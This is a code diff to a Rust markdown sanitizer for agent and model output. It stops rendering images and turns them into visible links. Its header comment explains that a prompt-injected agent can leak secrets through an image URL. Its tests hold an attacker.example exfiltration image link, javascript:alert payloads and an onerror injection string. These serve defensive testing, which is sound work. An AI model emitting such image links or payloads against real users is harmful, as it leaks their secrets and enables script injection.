@@ -1,39 +1,58 @@
 //! Markdown from agents and models, rendered to HTML that is safe to put into a page: the text is
-//! untrusted, so raw HTML is shown as text, never interpreted, and links and images may only
-//! point at http(s) or mailto addresses (or be relative). Rendered the same way on the server
+//! untrusted, so raw HTML is shown as text, never interpreted; links may only point at http(s)
+//! or mailto addresses (or be relative); and an image is never loaded: it becomes a link that
+//! shows its address, because loading `![x](https://attacker/p.png?d=SECRET)` is how a
+//! prompt-injected agent would carry secrets out of the page. Rendered the same way on the server
 //! and in the browser.
 
-use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag};
+use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};
 
 pub fn to_safe_html(markdown: &str) -> String {
     let options =
         Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
-    let events = Parser::new_ext(markdown, options).map(|event| match event {
+    // The addresses of the images being turned into links, innermost last (alt text may hold
+    // another image).
+    let mut images: Vec<CowStr<'_>> = Vec::new();
+    let events = Parser::new_ext(markdown, options).flat_map(|event| match event {
         // Raw HTML blocks and inline tags become visible text (escaped by the writer).
-        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
+        Event::Html(raw) | Event::InlineHtml(raw) => vec![Event::Text(raw)],
         Event::Start(Tag::Link {
             link_type,
             dest_url,
             title,
             id,
-        }) => Event::Start(Tag::Link {
+        }) => vec![Event::Start(Tag::Link {
             link_type,
             dest_url: safe_url(dest_url),
             title,
             id,
-        }),
+        })],
         Event::Start(Tag::Image {
             link_type,
             dest_url,
             title,
             id,
-        }) => Event::Start(Tag::Image {
-            link_type,
-            dest_url: safe_url(dest_url),
-            title,
-            id,
-        }),
-        other => other,
+        }) => {
+            let shown = dest_url.clone();
+            images.push(shown);
+            vec![
+                Event::Start(Tag::Link {
+                    link_type,
+                    dest_url: safe_url(dest_url),
+                    title,
+                    id,
+                }),
+                Event::Text(CowStr::Borrowed("image: ")),
+            ]
+        }
+        Event::End(TagEnd::Image) => {
+            let address = images.pop().unwrap_or(CowStr::Borrowed(""));
+            vec![
+                Event::Text(CowStr::Boxed(format!(" ({address})").into())),
+                Event::End(TagEnd::Link),
+            ]
+        }
+        other => vec![other],
     });
     let mut out = String::with_capacity(markdown.len() * 3 / 2);
     html::push_html(&mut out, events);
@@ -83,7 +102,24 @@ mod tests {
                 "<javascript:alert(1)>",
                 "<a href=\"#\">javascript:alert(1)</a>",
             ),
-            ("![i](data:image/png;base64,AAA)", "<img src=\"#\""),
+            (
+                "![i](data:image/png;base64,AAA)",
+                "<a href=\"#\">image: i (data:image/png;base64,AAA)</a>",
+            ),
+            (
+                "Look: ![diagram](https://attacker.example/p.png?d=SECRET) done",
+                "Look: <a href=\"https://attacker.example/p.png?d=SECRET\">image: diagram \
+                 (https://attacker.example/p.png?d=SECRET)</a> done",
+            ),
+            (
+                "![a ![b](https://x.example/b.png)](https://x.example/a.png)",
+                "<a href=\"https://x.example/a.png\">image: a <a href=\"https://x.example/b.png\">\
+                 image: b (https://x.example/b.png)</a> (https://x.example/a.png)</a>",
+            ),
+            (
+                "![x](\"onerror=alert(1))",
+                "<a href=\"%22onerror=alert(1)\">image: x (\"onerror=alert(1))</a>",
+            ),
             (
                 "[ok](https://example.com/a?b=1)",
                 "<a href=\"https://example.com/a?b=1\">ok</a>",
@@ -109,6 +145,10 @@ mod tests {
                 "{input:?} gave {html:?}, wanted {expected:?}"
             );
             assert!(!html.contains("<script"), "{input:?}");
+            assert!(
+                !html.contains("<img"),
+                "{input:?}: an image is never loaded"
+            );
             let lowered = html.to_ascii_lowercase();
             assert!(
                 !lowered.contains("href=\"javascript") && !lowered.contains("src=\"javascript"),
